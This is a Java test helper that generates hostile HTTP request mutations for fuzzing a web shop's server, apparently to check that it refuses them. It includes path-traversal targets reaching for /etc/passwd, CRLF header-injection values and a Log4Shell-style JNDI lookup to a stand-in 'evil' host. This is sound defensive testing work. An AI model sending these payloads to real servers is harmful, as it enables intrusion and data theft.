package dev.vertxshop.testing.hostile;

import java.nio.charset.StandardCharsets;
import java.util.function.UnaryOperator;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/**
 * Damage at the HTTP level, applied to a request that is already one an endpoint must refuse (so the
 * result must be refused too) or, through {@link #rejections()}, damage that makes any request one
 * that must be refused: a request line or headers over the server's limits, a request line that is
 * not HTTP, a method the path does not take, bytes in the path that are not a valid URI.
 */
public final class Transport {

  private Transport() {}

  /** Changes that make any request one the server must refuse. */
  public static Arbitrary<UnaryOperator<HostileRequest>> rejections() {
    return Arbitraries.oneOf(
        Arbitraries.of(9_000, 20_000, 70_000).map(length -> request -> request.withTarget(
            concat(request.target(), ("?pad=" + "a".repeat(length)).getBytes(StandardCharsets.US_ASCII)))),
        Arbitraries.of(17_000, 40_000).map(length -> request -> request.withHeader("X-Pad", "b".repeat(length).getBytes(StandardCharsets.US_ASCII))),
        Arbitraries.of(1_000, 2_000).map(count -> request -> {
          HostileRequest out = request;
          for (int i = 0; i < count; i++) {
            out = out.withHeader("X-Many-" + i, "0123456789".getBytes(StandardCharsets.US_ASCII));
          }
          return out;
        }),
        Arbitraries.of("DELETE", "PATCH", "TRACE", "FOO", "CONNECT").map(method -> request -> request.withMethod(method)),
        Arbitraries.of("G E T", "\u00c4GET", "GET/").map(method -> request -> request.withMethod(method)),
        Arbitraries.of(" HTTP/1.1 extra", "\r\nX: y", "\u0000").map(suffix -> request -> request.withTarget(
            concat(request.target(), suffix.getBytes(StandardCharsets.ISO_8859_1)))),
        HostileInputs.invalidUtf8().map(bytes -> request -> request.withTarget(concat(request.target(), bytes))),
        Arbitraries.of("/%zz", "/%", "/..%2f..%2fetc%2fpasswd", "/%00", "/../../../../etc/passwd", "/%c0%af%c0%af", "/;x=1",
            "/%2e%2e/%2e%2e/admin").map(suffix -> request -> request.withTarget(
            concat(request.target(), suffix.getBytes(StandardCharsets.ISO_8859_1)))));
  }

  /**
   * Changes that keep a refused request refused: nothing, any of {@link #rejections()}, or headers
   * with hostile values (bare CR or LF, invalid UTF-8, NUL, duplicates of standard headers).
   */
  public static Arbitrary<UnaryOperator<HostileRequest>> riders() {
    return Arbitraries.frequencyOf(
        net.jqwik.api.Tuple.of(6, Arbitraries.just(UnaryOperator.identity())),
        net.jqwik.api.Tuple.of(2, rejections()),
        net.jqwik.api.Tuple.of(2, oddHeaders()));
  }

  /** Headers with hostile values; an endpoint may ignore them. */
  public static Arbitrary<UnaryOperator<HostileRequest>> oddHeaders() {
    return Arbitraries.oneOf(
        Arbitraries.of("a\nInjected: 1", "a\rInjected: 1", "a\u0000b", "\u00ff\u00fe", "x".repeat(4000), " ", "${jndi:ldap://evil/a}")
            .map(value -> request -> request.withHeader("X-Hostile", value.getBytes(StandardCharsets.ISO_8859_1))),
        HostileInputs.invalidUtf8().map(bytes -> request -> request.withHeader("X-Hostile", bytes)),
        Arbitraries.of("Host", "X-Forwarded-For", "Accept", "Accept-Encoding", "Cookie", "Authorization", "Expect", "Upgrade")
            .flatMap(name -> HostileInputs.strings().map(value -> (UnaryOperator<HostileRequest>) request ->
                request.withHeader(name, value.getBytes(StandardCharsets.UTF_8)))));
  }

  private static byte[] concat(byte[] first, byte[] second) {
    return HostileInputs.insertAt(first, first.length, second);
  }
}
